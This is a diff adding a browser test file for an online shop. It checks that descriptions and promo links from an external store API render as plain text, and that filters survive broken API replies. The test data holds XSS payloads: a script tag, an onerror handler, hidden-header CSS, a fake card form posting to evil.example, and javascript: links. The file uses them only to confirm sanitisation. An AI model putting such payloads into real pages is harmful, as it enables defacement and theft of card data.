@@ -1,0 +1,90 @@
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { type ForeignStore, startForeignStore } from '#tests/support/browser/altered-api.ts';
+import { startSmallShop } from '#tests/support/browser/shared-shops.ts';
+import { newDataDir, type RunningShop, startShop } from '#tests/support/browser/shop-server.ts';
+import { desktop, openPage } from '#tests/support/browser/test-page.ts';
+
+const hostile = `<p>Soft cotton.</p><script>document.title='taken over'</script><img src=x onerror="document.title='taken over'">
+  <style>.site-header{display:none}</style><form action="https://evil.example"><input name=card><button>Pay</button></form>
+  <a href="javascript:document.title='taken over'" class="button primary">Buy</a><h1 id=content style="position:fixed">Sale</h1></div></main>`;
+
+let store: RunningShop;
+let elsewhere: ForeignStore;
+let site: RunningShop;
+/** What the store says about facets. */
+let facets: (reply: unknown) => unknown = () => 404;
+beforeAll(async () => {
+  store = await startSmallShop();
+  elsewhere = await startForeignStore(store, (path, reply) => {
+    if (path.startsWith('/product-facets')) return facets(reply);
+    if (path.startsWith('/single-product-details')) {
+      const { data, ...rest } = reply as { data: object };
+      return { ...rest, data: { ...data, description: hostile } };
+    }
+    if (path.startsWith('/home-page-sections')) {
+      const section = {
+        type: 'promo',
+        image: '',
+        heading: 'Sale',
+        link: "javascript:document.title='taken over'",
+        link_text: 'Take it',
+      };
+      return { success: true, data: [section] };
+    }
+    return reply;
+  });
+  site = await startShop(newDataDir(), { STORE_API_URL: elsewhere.url });
+});
+afterAll(async () => {
+  await site?.stop();
+  elsewhere?.stop();
+  await store?.stop();
+});
+
+test('a description from a store elsewhere is shown as text and never as more', async () => {
+  const { page, pageErrors } = await openPage({ viewport: desktop });
+  await page.goto(`${site.url}/products/plain-tee`);
+  const facts = page.locator('.facts .description');
+  expect(await facts.innerText()).toContain('Soft cotton.');
+  expect(await facts.locator('script, style, img, form, input, button, a, h1, [id], [style], [class]').count()).toBe(0);
+  expect(await page.locator('h1').allInnerTexts()).toEqual(['Plain Tee']);
+  expect(await page.getByRole('banner').isVisible()).toBe(true);
+  expect(await page.title()).toBe('Plain Tee | Small Shop');
+  expect(await page.locator('meta[name=description]').getAttribute('content')).not.toMatch(/taken over|display/);
+  // Had any of it come through, the content security policy would have complained.
+  expect(pageErrors).toEqual([]);
+});
+
+test('a link that is a program leads nowhere', async () => {
+  const { page } = await openPage({ viewport: desktop });
+  await page.goto(site.url);
+  await page.getByRole('heading', { name: 'Sale' }).waitFor();
+  expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
+});
+
+/** Each under an address of its own: pages of a store elsewhere are kept for a while. */
+const answers: [what: string, query: string, answer: (reply: unknown) => unknown][] = [
+  ['does not know the call', 'size=S', () => 404],
+  ['fails at it', 'size=M', () => 500],
+  ['answers something else', 'size=L', () => ({ success: true, data: [{ facet: 'size' }] })],
+  ['refuses it', 'size=S,M', () => ({ success: false, message: 'No such call' })],
+];
+
+test.for(answers)('filters of a store elsewhere that %s have no counts, and work', async ([, query, answer]) => {
+  facets = answer;
+  const { page, pageErrors } = await openPage({ viewport: desktop });
+  const response = await page.goto(`${site.url}/shop?${query}`);
+  expect(response?.status()).toBe(200);
+  expect(await page.locator('#filters small').count()).toBe(0);
+  expect(await page.locator('#filters :disabled').count()).toBe(0);
+  await page.getByRole('checkbox', { name: 'Caps', exact: true }).check();
+  await page.getByText('Nothing here matches all of that.').waitFor();
+  expect(pageErrors).toEqual([]);
+});
+
+test('filters of a store elsewhere that tells have counts', async () => {
+  facets = (reply) => reply;
+  const { page } = await openPage({ viewport: desktop });
+  await page.goto(`${site.url}/shop?categories=wallet,caps`);
+  expect(await page.locator('#filters label:has([value=caps]) small').innerText()).toMatch(/^1\s/);
+});
